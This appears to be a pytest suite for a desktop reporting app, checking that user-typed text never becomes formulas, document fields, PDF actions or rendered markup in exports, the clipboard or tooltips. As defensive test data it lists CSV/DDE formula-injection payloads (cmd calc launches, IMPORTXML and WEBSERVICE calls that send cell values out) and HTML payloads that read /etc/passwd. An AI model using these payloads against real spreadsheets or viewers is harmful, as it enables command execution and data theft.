"""Nothing typed becomes a formula or markup: not in a document, not on the clipboard, not on the screen."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from decimal import Decimal
from functools import cache
from itertools import cycle
from pathlib import Path

import pytest
from openpyxl import load_workbook
from PySide6.QtGui import QAction, Qt
from PySide6.QtWidgets import QLabel, QWidget
from pytestqt.qtbot import QtBot

from core import keys, oddities
from core.export import draw, formats
from core.findings import Finding
from core.pasting import copy_cells, copy_table
from core.pasting.copying import tabbed
from core.report import TYPED, Entry, Report
from core.session import Session
from core.values import Raw, is_number, parse
from core.writers import layout
from gui.bridge import Bridge
from gui.fields import plain_tip
from gui.settings import Settings
from gui.tables.model import TOOLTIP, FormModel
from gui.tables.paste_lines import PasteLines
from gui.window import Window
from tests.checks.filled import SAMPLE, report
from tests.writers.pdfs import text_of

HEADS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
VECTORS = (
    *(f"{head}1+1" for head in HEADS),
    *(f"{head}SUM(A1:A9)" for head in HEADS),
    *("\t=1+1", "\r=1+1", " =1+1", "　=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\xa0=1+1", "\n=1+1"),
    *("'=1+1", '"=1+1"', '"\t=1+1"', "''=1", "=\u200b1+1"),
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"点这里")',
    '=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://example.invalid")',
    "{=1+1}",
    "=1+1;=2",
    "%0A=1+1",
    "_x003D_1+1",  # how a workbook spells a sign
    "&#61;1+1",
    "=A1\n=B2",
)
MARKUP = (
    '<img src="file:///etc/passwd">',
    "<b>粗</b>",
    "<b/>",
    "&lt;b&gt;",
    "<a href='file:///etc/passwd'>甲</a>",
    "<script>alert(1)</script>",
    "<!DOCTYPE html>",
    "</para><br/>",
    "<font size=99>甲</font>",
    "]]>",
    "<?xml version='1.0'?>",
    "<onDraw name=x label=y/>",
)
WORDS = (*VECTORS, *MARKUP)
TITLES = ("=cmd|' /C calc'!A0", '@SUM(1)"&<b>', '<img src="file:///etc/passwd">', "-1+1")


def typed(words: str) -> str:
    """The words as the report keeps them."""
    return oddities.clean(words).text


def odd(title: str = TITLES[0]) -> Report:
    """A report that says such things wherever a person can write."""
    made = report({**SAMPLE, "disclosure.fees.amount": Decimal("1.5")})
    cells = zip(made.form.typed, cycle(WORDS), strict=False)
    entries = {key: Entry(Raw(" ".join(typed(words).split()))) for key, words in cells}
    words = "\n".join(map(typed, WORDS))
    entries |= {keys.text(section): Entry(words) for section in made.form.texts}
    entries |= {
        keys.note(key): Entry(typed(words)) for key, words in zip(made.form.cells, cycle(WORDS), strict=False)
    }
    entries |= {keys.explain(f"A01-{number}"): Entry(typed(words)) for number, words in enumerate(WORDS)}
    entries |= {keys.UNIT_NAME: Entry(title), keys.TITLE: Entry(title), "unit.address": Entry(title)}
    made.write(entries)
    return made


def plain() -> Report:
    """The same with words that are nothing but words."""
    made = odd("青石镇")
    harmless = {
        key: Entry(Raw("甲") if isinstance(entry.value, Raw) else re.sub(r"[^\n]+", "甲", str(entry.value)))
        for key, entry in made.entries.items()
        if isinstance(entry.value, Raw | str)
    }
    made.write(harmless)
    return made


@cache
def written(name: str, title: str = TITLES[0]) -> bytes:
    made = odd(title)
    return draw(made, layout.build(made), name)  # which reads it back


# ---- documents: each format as a stranger opens it


def in_xlsx() -> None:
    made = plain()
    harmless = load_workbook(io.BytesIO(draw(made, layout.build(made), "xlsx")))
    for title in TITLES:
        data = written("xlsx", title)
        book = load_workbook(io.BytesIO(data))
        assert formulas(book) == formulas(harmless)
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
        texts = [cell for cell in cells if cell.data_type == "s"]
        assert {cell.data_type for cell in cells} <= {"s", "f", "n"}
        commands = [cell for cell in texts if oddities.is_command(str(cell.value))]
        assert len(commands) > 100
        assert all(cell.quotePrefix for cell in commands)
        assert all(cell.hyperlink is None for cell in cells)
        stand = {str(cell.value).replace("_x005F_", "_") for cell in texts}
        wanted = {layout.clean(line) for words in WORDS for line in words.splitlines()} - {""}
        assert wanted <= stand
        assert title in stand
        with zipfile.ZipFile(io.BytesIO(data)) as parts:
            assert not [
                part for part in parts.namelist() if re.search("external|embed|connection|vba|query", part)
            ]
            assert b"ddeLink" not in b"".join(map(parts.read, parts.namelist()))


def formulas(book: object) -> set[tuple[str, str, str]]:
    return {
        (sheet.title, cell.coordinate, str(cell.value))
        for sheet in book  # type: ignore[attr-defined]  # iterating gives its sheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


ACTING = rb"/(JavaScript|JS|Launch|URI|OpenAction|AA|EmbeddedFile|Annots)[\s/<\[(]"


def in_pdf() -> None:
    for title in TITLES[:3]:
        data = written("pdf", title)
        text = "".join("".join(text_of(data)).split())
        for words in WORDS:
            for line in typed(words).splitlines():
                assert "".join(layout.clean(line).split()) in text, line
        assert re.search(ACTING, data) is None


def in_json() -> None:
    made = odd()
    content = json.loads(written("json"))
    assert content["title"] == TITLES[0]
    assert content["texts"] == {section: made.text(section) for section in made.form.texts}
    assert content["notes"] == made.starting_with(keys.NOTE)
    assert content["explanations"] == made.starting_with(keys.EXPLAIN)
    stand = {key: Raw(value) for key, value in content["cells"].items() if key in made.form.typed}
    assert stand == {key: made.stated(key) for key in made.form.typed}


def in_docx() -> None:
    with zipfile.ZipFile(io.BytesIO(written("docx"))) as parts:
        assert not [part for part in parts.namelist() if re.search("embed|vba|activeX", part)]
        for part in parts.namelist():
            body = parts.read(part)
            field = b'<w:fldSimple w:instr=" PAGE ">' if "footer" in part else b""  # the number of the page
            assert not re.search(
                rb"<w:(fldSimple|instrText|altChunk|object|hyperlink)\b", body.replace(field, b"")
            ), part
            assert b'TargetMode="External"' not in body, part
        words = html.unescape(re.sub(r"<[^>]+>", "", parts.read("word/document.xml").decode()))
        for line in MARKUP:
            assert line in words


def in_html() -> None:
    page = written("html").decode()
    found = set(re.findall(r"<\s*([a-zA-Z]+)", page))
    assert not found & {"img", "script", "a", "iframe", "object", "embed", "font", "b", "form", "base"}
    words = html.unescape(re.sub(r"<[^>]+>", "", page))
    for line in MARKUP:
        assert line in words


CHECKED: dict[str, Callable[[], None]] = {
    "xlsx": in_xlsx,
    "pdf": in_pdf,
    "json": in_json,
    "docx": in_docx,
    "html": in_html,
}


@pytest.mark.parametrize("name", formats())
def test_nothing_typed_acts_in_a_document_and_every_word_stands_there(name: str) -> None:
    CHECKED[name]()  # a new format says here how a stranger opens it


def test_there_are_forty_vectors_and_most_would_act_if_they_were_let() -> None:
    assert len(set(VECTORS)) >= 40
    assert sum(oddities.is_command(typed(words)) for words in VECTORS) >= 30


# ---- the clipboard

STROKES = {"-", "－"}


def test_what_is_copied_from_a_table_never_acts_where_it_is_pasted() -> None:
    made = odd()
    for table in made.form.tables:
        for copied in (copy_cells(made, table, table.cells), copy_table(made, table)):
            rows = csv.reader(io.StringIO(copied.text, newline=""), delimiter="\t")
            pasted = [cell for row in rows for cell in row if oddities.is_command(cell)]
            assert all(is_number(parse(cell)) or cell.strip() in STROKES for cell in pasted)
            for look, shown in re.findall(r"<t[dh][^>]*style=\"([^\"]*)\"[^>]*>([^<]*)</t", copied.html):
                acts = oddities.is_command(html.unescape(shown)) and shown.strip("-－") != ""
                assert ("mso-number-format:'\\@'" in look) == acts, shown
            assert "<img" not in copied.html
            assert "<script" not in copied.html


def test_figures_and_strokes_are_copied_as_they_are() -> None:
    assert tabbed([["-5", "—", "-", "+3", "1.5", "甲"]]) == "-5\t—\t-\t+3\t1.5\t甲"
    assert tabbed([["=1+1", "-1+1", "@SUM(A1)", "＝甲", "\t=1"]]) == (
        "'=1+1\t'-1+1\t'@SUM(A1)\t'＝甲\t\"'\t=1\""
    )


# ---- the screen


@pytest.fixture
def session(tmp_path: Path) -> Iterator[Session]:
    opened = Session.create(tmp_path / "<b>甲&乙.gknb", odd(MARKUP[0]))
    yield opened
    opened.close()


def is_plain(tip: str) -> bool:
    """Whether a tooltip is shown as words: no markup, or markup of ours around words that are escaped."""
    inner = re.fullmatch(r'<p style="white-space: pre-wrap">([^<>]*)</p>', tip)
    return inner is not None or not Qt.mightBeRichText(tip)


def test_words_in_a_tooltip_are_shown_as_they_are() -> None:
    for words in WORDS:
        tip = plain_tip(words)
        assert is_plain(tip)
        assert html.unescape(re.sub("<[^>]*>", "", tip) if tip != words else words) in {
            words,
            html.unescape(words),
        }
    assert plain_tip("甲\n乙") == "甲\n乙"


def test_the_tips_of_figures_and_lists_are_words(session: Session) -> None:
    model = FormModel(Bridge(session), session.report.form.table("applications"))
    tips = [
        str(model.data(model.index(row, column), TOOLTIP) or "")
        for row in range(model.rowCount())
        for column in range(model.columnCount())
    ]
    assert sum("img" in tip for tip in tips) > 3
    assert all(map(is_plain, tips))
    lines = PasteLines()
    lines.show_lines([("甲", MARKUP[0], MARKUP[0], "")])
    assert is_plain(str(lines.data(lines.index(0, 1), TOOLTIP)))


def test_nothing_in_the_window_takes_words_for_markup(session: Session, tmp_path: Path, qtbot: QtBot) -> None:
    session.apply({"unit.site": "甲"}, f"填写 {MARKUP[0]}")
    session.mark(MARKUP[1])
    window = Window(Bridge(session), Settings(tmp_path / "settings"))
    qtbot.addWidget(window)
    window.show()
    window.complete()
    for number in range(1, 8):
        window.show_number(number)
    for panel in ("help", "history", "notes", "find", "findings"):
        window.side.open(panel)
    window.say(MARKUP[0])
    seen = 0
    for part in window.findChildren(QWidget):
        assert is_plain(part.toolTip()), part.toolTip()
        if isinstance(part, QLabel):
            seen += "<" in part.text()
            marked = part.textFormat() is Qt.TextFormat.AutoText and Qt.mightBeRichText(part.text())
            assert not marked, part.text()
            if part.textFormat() is Qt.TextFormat.RichText:
                assert "<img" not in part.text()
    assert seen > 3
    assert all(is_plain(action.toolTip()) for action in window.findChildren(QAction))
    assert MARKUP[0] in html.unescape(window.actions_by_id["undo"].toolTip())
    window.close()


def test_a_finding_about_such_words_is_shown_as_words(session: Session) -> None:
    found: list[Finding] = [one for one in session.verdict.findings if "<" in one.text or "&" in one.text]
    assert found
    assert all(Qt.mightBeRichText(one.text) is False or is_plain(plain_tip(one.text)) for one in found)
    assert session.report.entry("unit.address") == Entry(MARKUP[0], TYPED)
